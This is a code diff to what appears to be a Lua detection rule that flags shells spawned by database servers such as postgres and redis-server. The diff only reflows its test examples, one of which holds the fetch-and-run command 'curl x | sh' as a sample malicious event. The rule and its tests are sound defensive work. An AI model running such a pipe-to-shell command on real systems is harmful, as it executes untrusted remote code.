@@ -24,9 +24,12 @@ return {
     return not match.contains_any(process.cmdline, own_helpers)
   end,
   examples = {
-    { expect = true, event = { process = { name = "sh", argv = { "sh", "-c", "curl x | sh" }, parent = { name = "postgres" } } } },
+    { expect = true, event = { process =
+      { name = "sh", argv = { "sh", "-c", "curl x | sh" }, parent = { name = "postgres" } } } },
     { expect = true, event = { process = { name = "bash", parent = { name = "redis-server" } } } },
-    { expect = false, event = { process = { name = "sh", argv = { "sh", "-c", "wal-g wal-push pg_wal/1" }, parent = { name = "postgres" } } } },
-    { expect = false, event = { process = { name = "sh", argv = { "sh", "-c", "/usr/bin/postgres --version" }, parent = { name = "initdb" } } } },
+    { expect = false, event = { process =
+      { name = "sh", argv = { "sh", "-c", "wal-g wal-push pg_wal/1" }, parent = { name = "postgres" } } } },
+    { expect = false, event = { process =
+      { name = "sh", argv = { "sh", "-c", "/usr/bin/postgres --version" }, parent = { name = "initdb" } } } },
   },
 }
